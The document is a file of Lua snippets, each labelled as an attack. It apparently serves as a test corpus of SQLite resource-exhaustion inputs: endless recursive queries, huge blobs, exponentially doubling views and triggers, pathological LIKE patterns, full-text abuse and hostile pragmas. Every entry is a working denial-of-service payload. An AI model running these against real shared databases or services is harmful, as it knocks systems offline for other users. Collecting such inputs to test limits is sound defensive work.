-- attack: endless recursion
db:fetch_value("WITH RECURSIVE n (i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT MAX(i) FROM n")
-- attack: 1990 columns of blobs
local c = {} for i = 1, 1990 do c[i] = "zeroblob(60000000)" end db:fetch_all("SELECT " .. table.concat(c, ", "))
-- attack: 40 columns of blobs
local c = {} for i = 1, 40 do c[i] = "zeroblob(60000000)" end db:fetch_all("SELECT " .. table.concat(c, ", "))
-- attack: doubling common tables
local p = { "a0 AS (SELECT 1 AS x)" } for i = 1, 60 do p[#p + 1] = ("a%d AS (SELECT p.x FROM a%d p, a%d q)"):format(i, i - 1, i - 1) end db:fetch_value("WITH " .. table.concat(p, ", ") .. " SELECT COUNT(*) FROM a60")
-- attack: doubling views
db:execute("CREATE TABLE v0 (x)") for i = 1, 60 do db:execute(("CREATE VIEW v%d AS SELECT p.x FROM v%d p, v%d q"):format(i, i - 1, i - 1)) end db:fetch_value("SELECT COUNT(*) FROM v60")
-- attack: doubling unions
db:execute("CREATE TABLE u0 (x)") for i = 1, 40 do db:execute(("CREATE VIEW u%d AS SELECT x FROM u%d UNION ALL SELECT x FROM u%d"):format(i, i - 1, i - 1)) end db:fetch_value("SELECT COUNT(*) FROM u40")
-- attack: branching triggers
db:execute("CREATE TABLE t0 (x)") for i = 1, 30 do db:execute(("CREATE TABLE t%d (x)"):format(i)) end for i = 0, 29 do db:execute(("CREATE TRIGGER g%d AFTER INSERT ON t%d BEGIN INSERT INTO t%d VALUES (1), (2), (3), (4), (5), (6), (7), (8); INSERT INTO t%d VALUES (1); END"):format(i, i, i + 1, i + 1)) end db:execute("INSERT INTO t0 VALUES (1)")
-- attack: json_group_array
db:fetch_value("WITH RECURSIVE n (i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT json_group_array(printf('%01000d', i)) FROM n")
-- attack: group_concat
db:fetch_value("WITH RECURSIVE n (i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT group_concat(printf('%0100000d', i)) FROM n")
-- attack: a sorter
db:fetch_value("WITH RECURSIVE n (i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT t FROM (SELECT printf('%01000d', i) AS t FROM n LIMIT 10000000) ORDER BY t LIMIT 1")
-- attack: a database in memory
db:execute("CREATE TABLE t (a)") db:execute("INSERT INTO t WITH RECURSIVE n (i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT zeroblob(100000) FROM n")
-- attack: doubling a table
db:execute("CREATE TABLE t (a)") db:execute("INSERT INTO t VALUES (zeroblob(1000))") while true do db:execute("INSERT INTO t SELECT a FROM t") end
-- attack: instr
db:fetch_value("SELECT instr(?, ?)", ("a"):rep(8000000), ("a"):rep(4000000) .. "b")
-- attack: replace
db:fetch_value("SELECT replace(?, ?, 'x')", ("a"):rep(8000000), ("a"):rep(4000000) .. "b")
-- attack: replace that grows
db:fetch_value("SELECT length(replace(replace(replace(?, 'a', ?1), 'a', ?1), 'a', ?1))", ("a"):rep(3000))
-- attack: trim
local s = {} for i = 0x4E00, 0x9000 do s[#s + 1] = utf8.char(i) end db:fetch_value("SELECT trim(?, ?)", ("a"):rep(8000000), table.concat(s) .. "a")
-- attack: LIKE
db:fetch_value("SELECT ? LIKE '%' || ?", ("a"):rep(8000000), ("a"):rep(40000) .. "b")
-- attack: GLOB
db:fetch_value("SELECT ? GLOB '*' || ?", ("a"):rep(8000000), ("a"):rep(40000) .. "b")
-- attack: LIKE with many wildcards
db:fetch_value("SELECT ? LIKE ?", ("ab"):rep(1000000), ("%a%b"):rep(2000) .. "c")
-- attack: printf with large widths
local c = {} for i = 1, 100 do c[i] = "printf('%.50000000f', 1.5)" end db:fetch_all("SELECT " .. table.concat(c, ", "))
-- attack: randomblob
while true do db:fetch_value("SELECT length(hex(randomblob(20000000)))") end
-- attack: a cross join
db:execute("CREATE TABLE t (a)") for i = 1, 100 do db:execute("INSERT INTO t VALUES (?)", i) end db:fetch_value("SELECT COUNT(*) FROM t a, t b, t c, t d, t e, t f")
-- attack: a join of 60 tables
db:execute("CREATE TABLE t (a)") local p = {} for i = 1, 60 do p[i] = "t AS x" .. i end local w = {} for i = 1, 59 do w[i] = ("x%d.a = x%d.a + x%d.a"):format(i, i + 1, (i * 7) % 60 + 1) end db:fetch_value("SELECT COUNT(*) FROM " .. table.concat(p, ", ") .. " WHERE " .. table.concat(w, " AND "))
-- attack: full text with a long expression
db:execute("CREATE VIRTUAL TABLE f USING fts5(a)") db:write(function(d) for i = 1, 2000 do d:execute("INSERT INTO f VALUES (?)", ("a b c d "):rep(100)) end end) while true do pcall(db.fetch_value, db, "SELECT COUNT(*) FROM f WHERE f MATCH ?", "NEAR(" .. ("a b c d "):rep(50) .. ", 10000)") end
-- attack: full text with a deep expression
db:execute("CREATE VIRTUAL TABLE f USING fts5(a)") while true do pcall(db.fetch_value, db, "SELECT COUNT(*) FROM f WHERE f MATCH ?", ("("):rep(200) .. "a" .. (" OR b)"):rep(200)) end
-- attack: a snippet
db:execute("CREATE VIRTUAL TABLE f USING fts5(a)") db:execute("INSERT INTO f VALUES (?)", ("a b. "):rep(300000)) while true do db:fetch_value("SELECT length(snippet(f, -1, '<', '>', '...', 1000000)) FROM f WHERE f MATCH 'a OR b'") end
-- attack: LIKE restored
pcall(db.execute, db, "PRAGMA case_sensitive_like = 1") pcall(db.fetch_all, db, "EXPLAIN PRAGMA case_sensitive_like = 0") db:fetch_value("SELECT ? LIKE '%' || ?", ("a"):rep(8000000), ("a"):rep(40000) .. "b")
-- attack: highlights
db:execute("CREATE VIRTUAL TABLE f USING fts5(a)") db:execute("INSERT INTO f VALUES (?)", ("a b "):rep(500000)) while true do db:fetch_value("SELECT length(highlight(f, 0, '<<<<<<', '>>>>>>')) FROM f WHERE f MATCH 'a'") end
-- attack: json_patch
local p = {} for i = 1, 100000 do p[i] = ('"k%d":1'):format(i) end local j = "{" .. table.concat(p, ",") .. "}" db:fetch_value("SELECT length(json_patch(?, ?))", j, j)
-- attack: json paths
local j = "[" .. ("1,"):rep(1000000) .. "1]" while true do db:fetch_value("SELECT json_extract(?, '$[999999]')", j) end
-- attack: an index on expressions
db:execute("CREATE TABLE t (a); CREATE INDEX i ON t (replace(a, 'a', 'bbbbbbbbbb'))") while true do db:execute("INSERT INTO t VALUES (?)", ("a"):rep(100000)) end
-- attack: a generated column
db:execute("CREATE TABLE t (a, b AS (a || a || a || a) STORED, c AS (b || b || b || b) STORED)") while true do db:execute("INSERT INTO t (a) VALUES (?)", ("a"):rep(100000)) end
-- attack: windows
db:fetch_value("WITH RECURSIVE n (i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n LIMIT 100000) SELECT SUM(s) FROM (SELECT SUM(i) OVER (ORDER BY i ROWS BETWEEN UNBOUNDED PRECEDING AND UNBOUNDED FOLLOWING EXCLUDE CURRENT ROW) AS s FROM n)")
-- attack: endless vacuum and analyze
db:execute("CREATE TABLE t (a)") while true do pcall(db.execute, db, "VACUUM") pcall(db.execute, db, "ANALYZE") pcall(db.execute, db, "REINDEX") end
-- attack: integrity_check
db:execute("CREATE TABLE t (a, b UNIQUE)") db:execute("INSERT INTO t WITH RECURSIVE n (i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n LIMIT 100000) SELECT i, i FROM n") while true do db:fetch_all("PRAGMA integrity_check") end
-- attack: pragmas
for _, p in ipairs{ "mmap_size = 1000000000000", "cache_size = 1000000000", "page_size = 65536", "temp_store = 2", "soft_heap_limit = 1", "hard_heap_limit = 1", "max_page_count = 4294967294", "threads = 100", "cache_spill = 0", "writable_schema = 1", "case_sensitive_like = 1" } do pcall(db.execute, db, "PRAGMA " .. p) end db:execute("CREATE TABLE t (a)") while true do db:execute("INSERT INTO t VALUES (zeroblob(1000000))") end
-- attack: long SQL
local s = "SELECT 1" for i = 1, 22 do s = s .. " /*" .. s .. "*/" end db:fetch_value(s)
-- attack: many statements
db:execute(("SELECT 1;"):rep(400000))
-- attack: long IN list
db:fetch_value("SELECT 1 IN (" .. ("1,"):rep(400000) .. "1)")
-- attack: compound selects
local s = "SELECT 1" for i = 1, 499 do s = s .. " UNION SELECT " .. i end while true do db:fetch_all(s) end
-- attack: explain of many statements
while true do db:fetch_all("EXPLAIN " .. "SELECT 1" .. (" UNION SELECT 2"):rep(400)) end
-- attack: many statements in a long text
local s = ("SELECT 1;"):rep(2500000) while true do pcall(db.execute, db, s) pcall(db.fetch_all, db, s) pcall(db.prepare, db, s) end
